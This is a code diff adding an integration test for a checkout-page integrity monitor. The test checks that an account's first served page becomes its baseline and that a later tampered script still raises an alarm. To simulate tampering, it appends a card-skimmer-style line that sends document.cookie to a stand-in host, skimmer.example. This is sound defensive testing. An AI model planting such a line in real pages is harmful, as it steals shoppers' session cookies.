@@ -3,6 +3,7 @@ import { appendFileSync, cpSync, existsSync, mkdtempSync, readFileSync, rmSync }
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { recordFirstCheckoutPageBaseline } from '../../src/domain/checkout-page/use-cases/record-first-checkout-page-baseline';
 import { readCheckoutBuild } from '../../src/http/checkout-page/built-assets';
 import { runJobOnce } from '../../src/runtime/scheduler';
 import type { ErrorReporter } from '../../src/telemetry/server-reporting';
@@ -178,6 +179,38 @@ describe.each(testDatabases)('checkout page integrity ($name)', (database) => {
       const changes = (await dashboardCall(ctx.h, owner, 'GET', `${security}/changes`)).json();
       expect(changes.data[0]).toMatchObject({ id: mine[0]!.id, resolution: 'approved' });
       stop();
+    });
+
+    it('a new account starts clean: no alarm before its page is served, its first page served is its baseline, and a real change still alarms', async () => {
+      const owner = await signUpOwner(ctx.h, 'Fresh Roasters');
+      const security = `/dashboard/api/accounts/${owner.accountId}/page-security`;
+      const read = async () => (await dashboardCall(ctx.h, owner, 'GET', security)).json();
+      // Nothing served yet: no baseline, so nothing to have changed from.
+      expect(await read()).toMatchObject({ baseline: null, open_change: null });
+
+      const key = (await dashboardCall(ctx.h, owner, 'POST', `/dashboard/api/accounts/${owner.accountId}/test/api-keys`, { kind: 'secret' })).json().secret;
+      const session = (await merchantCall(ctx.h, key, 'POST', '/v1/checkout/sessions', { currency: 'usd', line_items: [{ name: 'Beans', unit_amount: 1800, quantity: 1 }] })).json();
+      expect((await ctx.h.app.inject({ method: 'GET', url: `/c/${session.id}` })).statusCode).toBe(200);
+      // Recorded beside the page, not before it: it appears at once or very shortly.
+      await expect.poll(async () => (await read()).baseline, { timeout: 5000 }).not.toBeNull();
+      const clean = await read();
+      expect(clean).toMatchObject({ matches_baseline: true, open_change: null, baseline: { digest: clean.current.digest, approved_by: null } });
+      expect((await integrity().check(ctx.h.tillpoint.deps)).filter((c) => c.accountId === owner.accountId)).toEqual([]);
+
+      // Someone alters a chunk the page loads: the next check alarms, as for any account.
+      const chunk = readCheckoutBuild(webRoot)!.chunks.find((c) => c.kind === 'script' && c.source.includes('builtin-engine'))!;
+      appendFileSync(path.join(webRoot, chunk.path), '\n;fetch("https://skimmer.example/"+document.cookie);');
+      const mine = (await integrity().check(ctx.h.tillpoint.deps)).filter((c) => c.accountId === owner.accountId);
+      expect(mine).toHaveLength(1);
+      expect(mine[0]!.differences).toContainEqual(expect.objectContaining({ kind: 'script_changed', subject: chunk.path }));
+      // Serving the altered page again does not make it the baseline: the alarm stays until someone approves.
+      expect((await ctx.h.app.inject({ method: 'GET', url: `/c/${session.id}` })).statusCode).toBe(200);
+      const alarmed = await read();
+      expect(alarmed).toMatchObject({ matches_baseline: false, open_change: { id: mine[0]!.id }, baseline: { digest: clean.current.digest } });
+      // Nor does a restarted server that has not seen the account yet: an existing baseline is kept.
+      const latest = await integrity().current();
+      expect(await recordFirstCheckoutPageBaseline(ctx.h.tillpoint.deps, { accountId: owner.accountId, ...latest })).toBe(false);
+      expect((await read()).baseline.digest).toBe(clean.current.digest);
     });
 
     it('exports the inventory for an assessor as JSON and CSV, with the merchant’s notes', async () => {
